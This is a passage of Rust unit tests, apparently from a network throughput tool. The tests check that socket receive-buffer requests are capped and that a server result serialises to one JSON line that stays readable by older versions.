    fn a_forced_buffer_stays_within_the_maximum() {
        // Linux keeps twice what is asked: 512 MiB asked is 1 GiB kept.
        assert_eq!(forced_buffer_ask(4 << 20, DEFAULT_MAX_BUFFER), 4 << 20);
        assert_eq!(forced_buffer_ask(1 << 40, DEFAULT_MAX_BUFFER), 512 << 20);
        assert_eq!(forced_buffer_ask(1 << 40, 64 << 20), 32 << 20);
    }

    #[test]
    fn result_is_one_json_line() {
        let r = ServerResult {
            bytes: 1,
            duration_us: 2,
            os: Foreign::new("linux"),
            rcvbuf_key: Some(Foreign::new("net.ipv4.tcp_rmem")),
            rcvbuf_value: Some(Foreign::new("4096 131072 6291456")),
            rcv_wnd: None,
            rcv_buf: Some(1 << 20),
            window_share: Some(0.56),
        };
        let line = serde_json::to_string(&r).expect("json");
        assert!(!line.contains('\n'));
        assert_eq!(serde_json::from_str::<ServerResult>(&line).expect("parse"), r);
        // A version-1 server's result (no path-test fields) still reads.
        let old = r#"{"bytes":1,"duration_us":2,"os":"linux","rcvbuf_key":null,"rcvbuf_value":null,"rcv_wnd":null}"#;
        assert_eq!(
            serde_json::from_str::<ServerResult>(old).expect("v1").window_share,
            None
        );
    }
}
